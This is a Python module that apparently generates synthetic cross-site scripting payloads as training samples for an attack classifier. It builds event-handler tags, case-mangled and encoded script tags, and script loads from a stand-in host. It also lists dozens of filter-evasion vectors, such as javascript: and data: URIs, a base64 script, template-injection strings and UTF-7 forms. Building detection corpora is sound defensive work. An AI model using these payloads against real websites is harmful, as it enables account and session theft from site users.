"""Scripts for somebody else's page."""

from __future__ import annotations

from classifiers.corpus.web_attack_tables import EVENTS, JS, TAGS, URLS
from classifiers.corpus.web_draw import Draw, word


def _script(rng: Draw) -> str:
    return rng.choice(JS).replace("N", str(rng.randint(0, 999))).replace("W", word(rng))


def xss_tag(rng: Draw) -> str:
    tag, event, call = rng.choice(TAGS), rng.choice(EVENTS), _script(rng)
    gap = rng.choice((" ", "/", "\n", "\t", " x ", "%0a", "/**/", ' " ', f" {word(rng)}={word(rng)} "))
    q = rng.choice(("", '"', "'", "`", ""))
    before = rng.choice(
        ("", "", '">', "'>", "</title>", "--><", word(rng), "\"'>", "</textarea>", "<!--", word(rng) + " ")
    )
    more = rng.choice(
        (
            "",
            f" src={word(rng, 1, 2)}",
            " autofocus",
            " style=display:block",
            f" id={word(rng)}",
            " open",
            " href=#",
            " contenteditable",
            " tabindex=1",
        )
    )
    end = rng.choice((">", "/>", "//", " >", "", f">{word(rng)}", f">{word(rng)}</{tag}>"))
    return f"{before}<{tag}{gap}{more} {event}{rng.choice(('=', ' = ', '=' + chr(9)))}{q}{call}{q}{end}"


def xss_script(rng: Draw) -> str:
    call = _script(rng)
    url = rng.choice(URLS).replace("W", word(rng))
    script = rng.choice(
        (
            "script",
            "ScRiPt",
            "SCRIPT",
            "script ",
            "script\n",
            "script/x",
            "scr<script>ipt",
            "svg><script",
            "script type=text/javascript",
        )
    )
    end = script.split("><")[-1].split()[0].split("/")[0]
    before = rng.choice(("", "", '">', "'>", "'\"></", "</script>", word(rng), "]]>", "-->", "';", word(rng) + '"'))
    return before + rng.choice(
        (
            f"<{script}>{call}</{end}>",
            f"<{script} src={url}></{end}>",
            f"<{script} src=//{word(rng)}.example>",
            f"<{script}>{call}",
            f"<{script}>{call};//",
            f"%3C{script}%3E{call}%3C/{end}%3E",
        )
    )


def xss_other(rng: Draw) -> str:
    call, w = _script(rng), word(rng)
    return rng.choice(
        (f"javascript:{call}", f"JaVaScRiPt:{call}", f"java\tscript:{call}", f"javascript://%0a{call}", f"<a href=\"javascript:{call}\">{w}</a>",
         f"<iframe src=javascript:{call}>", f"<iframe srcdoc='<script>{call}</script>'>", f"<object data=\"data:text/html,<script>{call}</script>\">",
         f"<embed src=javascript:{call}>", f"data:text/html,<script>{call}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
         f"<meta http-equiv=refresh content=\"0;url=javascript:{call}\">", f"<math><a xlink:href=javascript:{call}>{w}", f"<form action=javascript:{call}><button>",
         f"<base href=javascript:{call}//>", f"<style>@import'javascript:{call}';</style>", f"<div style=\"width:expression({call})\">", f"';{call};//", f"\"-{call}-\"",
         f"'-{call}-'", f"`;{call}//", f"${{{call}}}", f"</script><script>{call}</script>", f"\" onmouseover=\"{call}", f"' onfocus='{call}' autofocus='",
         f"{{{{constructor.constructor('{call}')()}}}}", f"<svg><animate onbegin={call} attributeName=x dur=1s>", f"<xml><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">{call}</x:script>",
         f"<link rel=stylesheet href=javascript:{call}>", f"vbscript:msgbox({rng.randint(1, 99)})", f"<img src=\"x\" onerror=\"{call}\"", f"&lt;script&gt;{call}&lt;/script&gt;",
         f"\\x3cscript\\x3e{call}", f"\\u003cimg src=x onerror={call}\\u003e", f"+ADw-script+AD4-{call}+ADw-/script+AD4-", f"<bgsound src=javascript:{call}>", f"<table background=\"javascript:{call}\">")
    )  # fmt: skip
